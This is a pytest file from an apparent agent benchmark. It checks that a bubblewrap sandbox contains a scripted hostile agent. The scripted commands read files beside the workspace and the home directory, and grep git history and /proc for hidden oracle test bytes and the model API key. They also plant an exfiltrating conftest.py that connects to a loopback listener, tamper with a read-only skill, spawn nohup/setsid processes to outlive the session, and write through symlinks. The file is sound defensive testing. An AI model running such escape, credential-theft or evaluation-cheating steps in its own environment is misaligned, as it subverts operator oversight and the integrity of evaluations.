"""A hostile agent under bwrap: the real stand-in agent, driven by the scripted provider, tries to escape.

Each test scripts Bash/Write/Read calls that attempt one attack, runs one session through the
real ModelCLI adapter (ClaudeCLI.standin) and BwrapSandbox, and asserts the evidence on the
host: a file that must not exist, bytes that must not appear in what the agent saw (the agent is
told to copy what it found into the workspace, which the test then reads), a process that must
be gone. Skipped with a reason unless bwrap works; required when WFBENCH_REQUIRE_BWRAP=1.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import require_or_skip
from wfbench.adapters.agents.claude import ClaudeCLI
from wfbench.adapters.provider.script import Conversation, ProviderScript, ToolCall, Turn
from wfbench.adapters.provider.scripted import ScriptedProvider
from wfbench.adapters.repo.oracle_files import capture_oracle
from wfbench.adapters.repo.snapshot import build_snapshot
from wfbench.adapters.repo.workspace import private_copy
from wfbench.adapters.sandbox.bwrap import BwrapSandbox
from wfbench.domain.errors import SandboxUnavailable
from wfbench.domain.session.records import SessionRecord, SessionRequest
from wfbench.domain.workspace.oracle import OracleFileSpec
from wfbench.domain.workspace.sandbox import SandboxPolicy

PY_BIN = os.path.dirname(os.path.realpath(sys.executable))
PATH = f"{PY_BIN}:/usr/bin:/bin"
TOOLS = ("Bash", "Write", "Read", "Edit")


@pytest.fixture(scope="module")
def sandbox() -> BwrapSandbox:
    sandbox = BwrapSandbox()
    try:
        sandbox.preflight()
    except SandboxUnavailable as exc:
        require_or_skip("WFBENCH_REQUIRE_BWRAP", f"bubblewrap cannot run here: {exc}")
    return sandbox


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "app.py").write_text("def f():\n    return 1\n")
    return ws


def bash(command: str) -> ToolCall:
    return ToolCall("Bash", {"command": command})


def run_agent(
    sandbox: BwrapSandbox,
    workspace: Path,
    calls: list[ToolCall],
    *,
    secrets: dict[str, str] | None = None,
    **policy_kw: Any,
) -> SessionRecord:
    """One stand-in session whose model makes ``calls`` (one turn), then ends."""
    marker = f"HOSTILE-{uuid.uuid4().hex}"
    script = ProviderScript(
        conversations=(Conversation(when=(marker,), turns=(Turn(tools=tuple(calls)), Turn(say="done"))),)
    )
    values: dict[str, Any] = {
        "workspace": str(workspace),
        "workspace_writable": True,
        "network": True,
        "timeout_s": 60.0,
        "env": {"PATH": PATH},
    }
    values.update(policy_kw)
    with ScriptedProvider(script) as provider:
        request = SessionRequest(
            prompt=f"{marker}: do the task",
            allowed_tools=TOOLS,
            env={"ANTHROPIC_BASE_URL": provider.base_url},
            secrets=secrets or {"ANTHROPIC_API_KEY": f"sk-ant-{uuid.uuid4().hex}"},
            timeout_s=60.0,
        )
        record = ClaudeCLI.standin().run_session(request, sandbox=sandbox, policy=SandboxPolicy(**values))
        assert len(provider.requests) == 2, "the agent did not run the scripted tool turn"
    return record


def loot(workspace: Path, name: str = "loot.txt") -> str:
    """What the agent copied into the workspace (the evidence of what it could see)."""
    path = workspace / name
    assert path.exists(), f"the scripted command did not run: {name} missing"
    return path.read_text(errors="replace")


def test_writing_outside_the_workspace_leaves_the_host_untouched(
    sandbox: BwrapSandbox, workspace: Path, tmp_path: Path
) -> None:
    """Bash and Write aimed at host paths (beside the clone, /usr, /tmp) change nothing on the host."""
    target = tmp_path / "outside.txt"
    written = tmp_path / "written.txt"
    token = uuid.uuid4().hex
    calls = [
        bash(f"echo x > {target}; echo x > /usr/{token}; echo x > /tmp/{token}; echo ran > /workspace/ran"),
        ToolCall("Write", {"file_path": str(written), "content": "escaped"}),
    ]
    record = run_agent(sandbox, workspace, calls)
    assert record.ok
    assert (workspace / "ran").exists()
    assert not target.exists()
    assert not written.exists()
    assert not Path(f"/usr/{token}").exists()
    assert not Path(f"/tmp/{token}").exists()


def test_a_secret_beside_the_clone_cannot_be_read(
    sandbox: BwrapSandbox, workspace: Path, tmp_path: Path
) -> None:
    """A file next to the workspace on the host is invisible by relative and absolute path."""
    secret_value = f"BESIDE-{uuid.uuid4().hex}"
    secret = tmp_path / "secret.txt"
    secret.write_text(secret_value)
    calls = [
        bash(
            f"cat ../secret.txt {secret} > /workspace/loot.txt 2>&1;"
            f" ls -a .. {tmp_path} >> /workspace/loot.txt 2>&1"
        ),
        ToolCall("Read", {"file_path": str(secret)}),
    ]
    record = run_agent(sandbox, workspace, calls)
    assert secret_value not in loot(workspace)
    assert "secret.txt" not in loot(workspace).replace(f"cat: {secret}", "").replace("cat: ../secret.txt", "")
    assert secret_value.encode() not in record.transcript


def test_the_hosts_home_is_not_visible(sandbox: BwrapSandbox, workspace: Path) -> None:
    """The harness user's home shows nothing but the path to the bound Python runtime."""
    home = Path.home()
    calls = [
        bash(
            f"ls -A {home} > /workspace/loot.txt 2>&1; ls -A ~ >> /workspace/loot.txt;"
            ' echo "$HOME" >> /workspace/loot.txt'
        )
    ]
    run_agent(sandbox, workspace, calls)
    seen = loot(workspace).split()
    runtime_parts = {
        Path(p).relative_to(home).parts[0]
        for p in (sys.base_prefix, sys.prefix)
        if Path(p).is_relative_to(home)
    }
    for entry in home.iterdir():
        if entry.name not in runtime_parts:
            assert entry.name not in seen
    assert seen[-1] == "/home/agent"


@pytest.fixture
def task_repo(tmp_path: Path) -> tuple[Path, str]:
    """A repository whose history holds the oracle once (a later commit removed it)."""
    marker = f"ORACLE-{uuid.uuid4().hex}"
    repo = tmp_path / "repo"
    repo.mkdir()
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": "/nonexistent",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    (repo / "test_hidden.py").write_text(f"# {marker}\n")
    git("add", ".")
    git("commit", "-qm", "oracle")
    git("rm", "-q", "test_hidden.py")
    (repo / "app.py").write_text("x = 1\n")
    git("add", ".")
    git("commit", "-qm", "task")
    return repo, marker


def test_oracle_bytes_cannot_be_found_before_the_agent_exits(
    sandbox: BwrapSandbox, task_repo: tuple[Path, str], tmp_path: Path
) -> None:
    """Not in the filesystem, not in git history (git log --all, fsck), not in any /proc entry."""
    repo, marker = task_repo
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "hidden.py").write_text(f"# {marker}\n")
    bundle = capture_oracle(str(corpus), [OracleFileSpec("hidden.py", "hidden.py")])
    snapshot = build_snapshot(str(repo), "main", str(tmp_path / "snap"))
    ws = Path(private_copy(snapshot, str(tmp_path / "ws")))
    hunt = (
        "{ git log --all -p; git fsck --lost-found --unreachable --no-reflogs;"
        " git cat-file --batch-all-objects --batch;"
        " grep -rs ORACLE- /workspace /home /tmp /opt /etc /root /run 2>/dev/null;"
        " for p in /proc/[0-9]*; do cat $p/cmdline $p/environ; done 2>/dev/null;"
        f" ls -a {corpus} {tmp_path}; }} > /tmp/found 2>&1; cp /tmp/found /workspace/loot.txt"
    )
    run_agent(sandbox, ws, [bash(hunt)])
    found = loot(ws)
    assert "wfbench snapshot" in found  # positive control: git log --all did run over the clone
    assert marker not in found
    assert bundle.files[0].data.decode().strip() not in found
    assert "hidden.py" not in found


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback TCP listener recording what any connection sends."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                received.append(conn.recv(1024) or b"<connected>")
            except OSError:
                received.append(b"<connected>")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(2)
    server.close()


def test_code_planted_for_verify_cannot_reach_the_network(
    sandbox: BwrapSandbox, workspace: Path, listener: tuple[int, list[bytes]]
) -> None:
    """The agent plants an exfiltrating conftest; verify runs it without network: nothing arrives."""
    port, received = listener
    exfil = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "s.sendall(b'EXFIL')\n"
    )
    run_agent(
        sandbox, workspace, [ToolCall("Write", {"file_path": "/workspace/conftest.py", "content": exfil})]
    )
    verify = SandboxPolicy(
        workspace=str(workspace), workspace_writable=False, network=False, timeout_s=30, env={"PATH": PATH}
    )
    result = sandbox.run(["python3", "conftest.py"], policy=verify)
    assert result.returncode != 0
    assert b"EXFIL" not in b"".join(received)
    control = SandboxPolicy(
        workspace=str(workspace), workspace_writable=False, network=True, timeout_s=30, env={"PATH": PATH}
    )
    assert sandbox.run(["python3", "conftest.py"], policy=control).ok  # negative control: the code does work


def test_a_tool_subprocess_cannot_read_the_model_api_key(sandbox: BwrapSandbox, workspace: Path) -> None:
    """Neither the Bash child's env nor any /proc/<pid>/environ or cmdline holds the key."""
    key = f"sk-ant-{uuid.uuid4().hex}"
    probe = (
        "env > /workspace/env.txt; "
        "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; echo; done > /workspace/loot.txt 2>&1; "
        "grep -rs sk-ant- /home /tmp >> /workspace/loot.txt"
    )
    run_agent(sandbox, workspace, [bash(probe)], secrets={"ANTHROPIC_API_KEY": key})
    assert key not in loot(workspace)
    assert key not in loot(workspace, "env.txt")
    assert "ANTHROPIC_API_KEY" not in loot(workspace, "env.txt")


def test_a_read_only_skill_cannot_be_modified(sandbox: BwrapSandbox, workspace: Path) -> None:
    """Write, Edit, Bash redirection, rm and mv on the evaluated skill all fail; the bytes stay."""
    skill = workspace / ".claude" / "skills" / "fix"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("original skill\n")
    target = "/workspace/.claude/skills/fix/SKILL.md"
    calls = [
        ToolCall("Read", {"file_path": target}),  # so Write and Edit meet the mount, not the read rule
        ToolCall("Write", {"file_path": target, "content": "weakened"}),
        ToolCall("Edit", {"file_path": target, "old_string": "original", "new_string": "weakened"}),
        bash(
            f"echo weakened > {target}; rm -f {target}; mv {target} /workspace/moved;"
            " rm -rf /workspace/.claude/skills/fix;"
            " echo ran > /workspace/ran"
        ),
    ]
    run_agent(sandbox, workspace, calls, read_only_paths=(".claude/skills/fix",))
    assert (workspace / "ran").exists()
    assert (skill / "SKILL.md").read_text() == "original skill\n"
    assert sorted(p.name for p in skill.iterdir()) == ["SKILL.md"]  # mv could only copy it out


def test_a_background_process_does_not_survive_the_session(sandbox: BwrapSandbox, workspace: Path) -> None:
    """nohup + setsid + disown: the process is still gone when the session returns."""
    token = f"wfbench-probe-{uuid.uuid4().hex}"
    command = (
        f"nohup setsid python3 -c 'import time; time.sleep(300)' {token}"
        " > /dev/null 2>&1 < /dev/null & disown; echo ok"
    )
    try:
        record = run_agent(sandbox, workspace, [bash(command)])
        assert record.ok
        assert survivors(token) == []
    finally:
        for pid in survivors(token):
            os.kill(pid, signal.SIGKILL)


def survivors(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if token.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def test_writing_through_a_planted_symlink_does_not_reach_the_host(
    sandbox: BwrapSandbox, workspace: Path, tmp_path: Path
) -> None:
    """Links in the workspace pointing at host directories lead nowhere inside the sandbox."""
    host_dir = tmp_path / "host_target"
    host_dir.mkdir()
    (workspace / "escape").symlink_to(host_dir)
    (workspace / "up").symlink_to("../host_target")
    calls = [
        bash(
            "echo x > escape/pwned1; echo x > up/pwned2;"
            " ln -s /proc/1/root/.. r; echo x > r/pwned3; echo ran > ran"
        ),
        ToolCall("Write", {"file_path": "/workspace/escape/pwned4", "content": "x"}),
    ]
    run_agent(sandbox, workspace, calls)
    assert (workspace / "ran").exists()
    assert list(host_dir.iterdir()) == []
    assert not list(tmp_path.glob("pwned*"))
